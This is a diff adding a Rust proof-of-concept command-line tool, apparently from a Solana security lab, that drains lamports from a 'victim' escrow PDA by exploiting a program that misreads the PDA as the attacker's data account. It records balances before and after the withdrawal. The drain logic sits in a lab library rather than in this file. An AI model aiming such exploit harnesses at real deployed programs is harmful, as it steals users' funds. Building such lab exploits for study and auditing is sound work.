@@ -0,0 +1,47 @@
+//! poc-pda-issues: withdraws from an escrow PDA whose data reads as the
+//! attacker's
+//!
+//! ```bash
+//! poc-pda-issues --victim ESCROW --amount LAMPORTS [--rpc URL]
+//! ```
+//!
+//! The escrow is a PDA from another namespace the program keeps, which only
+//! the program can create, so it has to be on the cluster already.
+
+use std::process::ExitCode;
+
+use anyhow::Result as AnyResult;
+use clap::Parser;
+use lab_client::pda_issues::Client;
+use lab_pocs::{Exploit, Report, Target};
+use solana_program::pubkey::Pubkey;
+
+#[derive(Parser)]
+#[command(
+    name = "poc-pda-issues",
+    about = "Withdraw from a pda_issues escrow PDA read as the attacker's data account"
+)]
+struct Args {
+    #[command(flatten)]
+    target: Target,
+    /// The escrow PDA to withdraw from
+    #[arg(long)]
+    victim: Pubkey,
+    /// How much to withdraw
+    #[arg(long)]
+    amount: u64,
+}
+
+fn main() -> ExitCode {
+    lab_pocs::run(poc)
+}
+
+async fn poc(args: Args) -> AnyResult<Report> {
+    let client = Client::new(args.target.client("pda_issues")?);
+    let mut report = Report::new("pda_issues", &args.target, &client);
+    let escrow = args.victim;
+    report.inspect(&client, "before", escrow).await?;
+    let drained = client.exploit_drain(escrow, args.amount).await;
+    report.inspect(&client, "after", escrow).await?;
+    Ok(report.exploit(escrow, drained.map(|_| Exploit::took(args.amount, escrow))))
+}